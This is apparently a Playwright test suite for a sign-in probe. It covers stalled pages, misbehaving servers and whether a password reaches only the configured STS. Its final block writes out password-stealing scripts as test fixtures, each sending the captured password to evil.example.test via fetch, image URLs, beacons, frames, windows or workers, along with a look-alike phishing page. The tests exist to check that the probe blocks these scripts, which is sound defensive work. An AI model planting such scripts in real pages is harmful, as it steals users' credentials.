/** The probe as an outsider: pages that lead nowhere, servers that misbehave, and attempts at the password. */
import { expect, test } from '@playwright/test';
import { account, equipment, expectEnding, expectSignedIn, goodPassword, signInAbroad, type WorldWishes } from '../testing/foreign/foreign-world';
import { identityProvider } from '../testing/foreign/identity-provider';
import { signInPages, type SignInView } from '../testing/foreign/sign-in-pages';
import { type Answer, html, redirect, type Reply, type VirtualHosts } from '../testing/foreign/virtual-hosts';

test.describe('stuck', () => {
  const form = '<form><input name="answer"><select name="branch"><option>North</option></select><button>Go on</button></form>';
  for (const [named, page, why, withinMs] of [
    [
      'an unknown page',
      html('Choose', `<p>Which branch?</p>${form}`),
      /unknown page: title "Choose".*answer \(text\), branch \(select-one\).*Which branch\?/,
      3_000,
    ],
    [
      'a page that never finishes loading, for want of a picture',
      html('Waiting', `<p>Soon.</p><img src="/never">${form}`),
      /unknown page: title "Waiting".*Soon/,
      3_500,
    ],
    [
      'a page held up by a script that never comes',
      html('Held up', `<p>Seen.</p><script src="/never"></script>${form}`),
      /unknown page: title "Held up".*Seen/,
      7_000,
    ],
    [
      'a page whose end is never sent',
      { ...html('Half', `<p>Half of it${'.'.repeat(2_000)}</p>`), unfinished: true } as Reply,
      /unknown page: title "Half"/,
      7_000,
    ],
    [
      'a page whose clock never rests',
      html('Clock', `<p id="c"></p>${form}<script>setInterval(() => { c.textContent = Date.now() }, 100)</script>`),
      /unknown page: title "Clock"/,
      6_500,
    ],
    [
      'a page that asks before it lets go',
      html('Sure', `<p>Stay</p><script>onbeforeunload = () => true; alert('Hello')</script>`),
      /unknown page: title "Sure".*Stay/,
      3_000,
    ],
    [
      'a page that shows all in a frame',
      html('Framed', '<iframe src="https://evil.example.test/inner"></iframe>'),
      /unknown page: title "Framed".*frames: https:\/\/evil\.example\.test\/inner/,
      3_500,
    ],
    ['a page whose refresh is far away', html('Later', '<p>Later</p>', '<meta http-equiv="refresh" content="600">'), /unknown page: title "Later"/, 3_000],
  ] as const)
    test(`at ${named}, the journey ends soon and describes it`, async () => {
      const world = await signInAbroad({ rp: { send: () => page, pages: { '/never': () => 'never' } }, deadlineMs: 15_000 });
      expectEnding(world, { symptom: 'other', failedAt: 'crm-redirect', why, submissions: 0, withinMs });
      expect(world.evidence.pages.at(-1)).toMatchObject({ kind: 'unknown', action: 'stopped' });
    });

  test('at a page whose script never comes to an end, the deadline holds', async () => {
    const world = await signInAbroad({
      rp: { send: () => html('Busy', '<p>Busy</p><script>setTimeout(() => { for (;;); }, 300)</script>') },
      deadlineMs: 4_000,
    });
    expectEnding(world, { symptom: 'no-answer', failedAt: 'crm-redirect', why: /deadline|cannot be read/, submissions: 0, withinMs: 8_000 });
  });

  test('at a server that accepts and never answers, everything until then is kept', async () => {
    const world = await signInAbroad({ idp: { afterPassword: () => 'never' }, deadlineMs: 3_500 });
    expectEnding(world, {
      symptom: 'no-answer',
      failedAt: 'credentials',
      why: /deadline of 3\.5 s passed while waiting for idp\.example\.test/,
      submissions: 1,
      withinMs: 8_000,
    });
    expect(world.evidence.exchanges.map(({ step, status }) => [step, status])).toEqual([
      ['crm-redirect', 302],
      ['sts-page', 200],
      ['credentials', null],
    ]);
    expect(world.evidence.pages.map(({ kind, action }) => [kind, action])).toEqual([['sts-forms', 'typed the credentials']]);
    expect(world.evidence.screenshots.length).toBeGreaterThan(0);
  });

  test('at a sign-in by script that is never answered, the form is not taken for a refusal', async () => {
    const world = await signInAbroad({ idp: { page: signInPages.byScript, afterPassword: () => 'never' }, deadlineMs: 5_000 });
    expectEnding(world, { symptom: 'no-answer', failedAt: 'sts-page', why: /deadline/, submissions: 1, withinMs: 6_500 });
  });

  test('at an STS that resets, or answers 204, the hop is named', async () => {
    const reset = await signInAbroad({ idp: { pages: { '/wsfed': () => 'reset' } } });
    expectEnding(reset, { symptom: 'no-answer', failedAt: 'sts-page', why: /No answer from idp\.example\.test/, submissions: 0, withinMs: 3_000 });
    const empty = await signInAbroad({ rp: { pages: { '/home': () => ({ status: 204 }) } } });
    expectEnding(empty, { symptom: 'no-answer', failedAt: 'crm-redirect', why: /No page came from app\.example\.test.*204/, submissions: 0, withinMs: 3_500 });
  });

  test('at a page that repeats a redirect to itself, a loop is told', async () => {
    const world = await signInAbroad({ rp: { send: () => redirect('/home') } });
    expectEnding(world, { symptom: 'redirect-loop', failedAt: 'crm-redirect', why: /keeps redirecting/, submissions: 0, withinMs: 2_500 });
  });
});

test('a public page that shows the proof of sign-in to anybody is no sign-in', async () => {
  const world = await signInAbroad({ rp: { send: () => html('Welcome', '<h1 id="welcome">Welcome, guest</h1>') } });
  expectEnding(world, { symptom: 'other', failedAt: 'crm-redirect', why: /never was at the STS.*signedIn\.selector/, submissions: 0, withinMs: 3_000 });
});

test('a public page that goes to the STS by script a little later is waited for', async () => {
  const send = (address: string): Reply =>
    html('Welcome', `<h1 id="welcome">Loading</h1><script>setTimeout(() => { location.href = ${JSON.stringify(address)} }, 500)</script>`);
  expectSignedIn(await signInAbroad({ rp: { send } }), 3_500);
});

test('a form behind a Negotiate challenge is used by who has no ticket', async () => {
  const page = (view: SignInView): Reply => ({ ...signInPages.plain(view), status: 401, headers: { 'WWW-Authenticate': 'Negotiate' } });
  expectSignedIn(await signInAbroad({ idp: { page } }), 2_500);
});

test.describe('the password goes nowhere but to the STS', () => {
  const evil = (hosts: VirtualHosts): string => hosts.origin('evil.example.test');
  /** A site that takes everything and lets scripts read its answers. */
  const collecting = (hosts: VirtualHosts): void =>
    hosts.put('evil.example.test', () => ({ headers: { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' }, body: 'thanks' }));

  test('not to a look-alike the relying party leads to', async () => {
    const world = await signInAbroad({
      sts: (hosts) => hosts.origin('idp.example.test'),
      before: (hosts) => hosts.put('evil.example.test', ({ url }) => signInPages.plain({ action: `${url.origin}/take`, error: null, step: 'user' })),
      rp: { send: (address) => redirect(address.replace('idp.example.test', 'evil.example.test')) },
    });
    expectEnding(world, {
      symptom: 'other',
      failedAt: 'credentials',
      why: /evil\.example\.test:\d+ showed a sign-in form.*only https:\/\/idp\.example\.test:\d+ \(the configured sts\)/,
      submissions: 0,
      withinMs: 2_000,
    });
    expect(world.journey.withheld).toContain('evil.example.test');
  });

  test('not to an honest STS that is not the configured one', async () => {
    const { key } = await equipment();
    const world = await signInAbroad({
      before: (hosts) => hosts.put('other.example.test', identityProvider(hosts.origin('other.example.test'), { account, key, challenge: 'Basic' }).site),
      rp: { send: (address) => redirect(address.replace('idp.example.test', 'other.example.test')) },
    });
    expect(world.journey).toMatchObject({ signedIn: 'no', credentialSubmissions: 0 });
    expect(world.journey.why).toContain('other.example.test');
  });

  const plain = (view: SignInView): string => signInPages.plain(view).body ?? '';
  /** The plain form with a script of the attacker's. */
  const withScript =
    (script: string) =>
    (view: SignInView): Reply => ({ body: plain(view).replace('</body>', `<script>${script}</script></body>`) });
  const onSubmit = (action: string): string =>
    `document.forms[0].addEventListener('submit', (event) => { const p = document.querySelector('[type=password]').value; ${action} });`;

  /** `E` stands for the attacker's origin. */
  const attempts: readonly (readonly [string, (view: SignInView) => Reply, 'withheld' | 'stopped' | 'kept'])[] = [
    ['a form that posts to another origin', (view) => ({ body: plain(view).replace(/action="[^"]*"/, 'action="E/take"') }), 'withheld'],
    ['a form that posts to plain http', (view) => ({ body: plain(view).replace('action="https:', 'action="http:') }), 'withheld'],
    ['a button that posts to another origin', (view) => ({ body: plain(view).replace('<button>', '<button formaction="E/take">') }), 'stopped'],
    ['a script that changes the action on submit', withScript(onSubmit("document.forms[0].action = 'E/take'")), 'stopped'],
    ['a form by GET whose action a script changes', withScript(onSubmit("document.forms[0].method = 'get'; document.forms[0].action = 'E/take'")), 'stopped'],
    ['a script that fetches', withScript(onSubmit("event.preventDefault(); fetch('E/take', { method: 'POST', body: JSON.stringify({ p }) })")), 'stopped'],
    [
      'a picture with the password in its address',
      withScript(onSubmit("event.preventDefault(); new Image().src = 'E/take?p=' + encodeURIComponent(encodeURIComponent(p))")),
      'stopped',
    ],
    ['a beacon', withScript(onSubmit("event.preventDefault(); navigator.sendBeacon('E/take', new Blob([p]))")), 'stopped'],
    [
      'a base64 header',
      withScript(onSubmit("event.preventDefault(); fetch('E/take', { headers: { 'X-Data': btoa(unescape(encodeURIComponent(p))) } })")),
      'stopped',
    ],
    [
      'a form in a frame of another site',
      withScript(
        onSubmit(
          "event.preventDefault(); document.body.insertAdjacentHTML('beforeend', '<iframe name=f></iframe>'); document.forms[0].target = 'f'; " +
            "document.forms[0].action = 'E/take'; document.forms[0].submit()",
        ),
      ),
      'stopped',
    ],
    ['a window that is opened', withScript(onSubmit("event.preventDefault(); window.open('E/take?p=' + encodeURIComponent(p))")), 'stopped'],
    [
      'a link without opener',
      withScript(
        onSubmit(
          "event.preventDefault(); const a = Object.assign(document.createElement('a'), { target: '_blank', rel: 'noopener', href: " +
            "'E/take?p=' + encodeURIComponent(p) }); document.body.append(a); a.click()",
        ),
      ),
      'stopped',
    ],
    [
      'a worker',
      withScript(onSubmit("event.preventDefault(); new Worker(URL.createObjectURL(new Blob(['fetch(\"E/take?p=' + encodeURIComponent(p) + '\")'])))")),
      'kept', // there are no workers at the STS
    ],
  ];

  for (const [named, page, how] of attempts)
    test(`not by ${named}`, async () => {
      let origin = '';
      const wishes: WorldWishes = {
        before: (hosts) => {
          collecting(hosts);
          origin = evil(hosts);
        },
        idp: {
          page: (view) => {
            const reply = page(view);
            return { ...reply, body: reply.body?.replaceAll('E/take', `${origin}/take`) };
          },
        },
      };
      const world = await signInAbroad(wishes); // which looks at every server for the password
      expect(world.journey).toMatchObject({
        ...(how === 'kept' ? { signedIn: 'unknown', failedAt: null } : { signedIn: 'no', failedAt: 'credentials' }),
        credentialSubmissions: how === 'withheld' ? 0 : 1,
      });
      expect(world.journey.why).toMatch(
        {
          withheld: /only https:\/\/idp\.example\.test:\d+ \(the configured sts\)/,
          stopped: /Stopped for safety: the password was about to be sent to https:\/\/evil\.example\.test/,
          kept: /did not submit the credentials/,
        }[how],
      );
      expect(world.provider.submissions()).toBe(0);
    });

  test('not by an answer of the STS that sends the form on to somebody else', async () => {
    let origin = '';
    const world = await signInAbroad({
      before: (hosts) => {
        collecting(hosts);
        origin = evil(hosts);
      },
      idp: { refuse: (): Answer => redirect(`${origin}/take`, {}, 307) },
      password: `${goodPassword}!`,
    });
    expectEnding(world, { symptom: 'other', failedAt: 'credentials', why: /Stopped for safety.*evil\.example\.test/, submissions: 1, withinMs: 2_500 });
  });

  test('and a page that tells it in clear is neither pictured nor quoted: a sheet is drawn from its redacted text', async () => {
    const world = await signInAbroad({
      idp: { refuse: (_, { form }): Reply => html('No', `<p>The password ${form.get('password')?.replace(/&/g, '&amp;')} is wrong.</p>`) },
      password: `${goodPassword}!`,
    });
    expect(world.journey).toMatchObject({ signedIn: 'no', credentialSubmissions: 1 });
    expect(world.journey.why).toContain('[password]');
    expect(world.evidence.screenshots.at(-1)?.caption).toBe('No (drawn from its text, as the password had been given)');
    expect(world.evidence.pages.at(-1)?.screenshot).toBe(world.evidence.screenshots.at(-1)?.file);
  });

  test('nor is it told letter by letter on the console', async () => {
    const letters = JSON.stringify([...`${goodPassword}!`]).replace(/</g, '\\u003c');
    const world = await signInAbroad({
      idp: { refuse: (): Reply => html('No', `<p>No.</p><script>console.error('first'); for (const sign of ${letters}) console.warn(sign)</script>`) },
      password: `${goodPassword}!`,
    });
    const told = world.evidence.console.map(({ text }) => text);
    expect(told.length).toBeGreaterThan(0);
    expect(told.join('').replace(/\s/g, '')).not.toContain(goodPassword.replace(/\s/g, ''));
  });
});
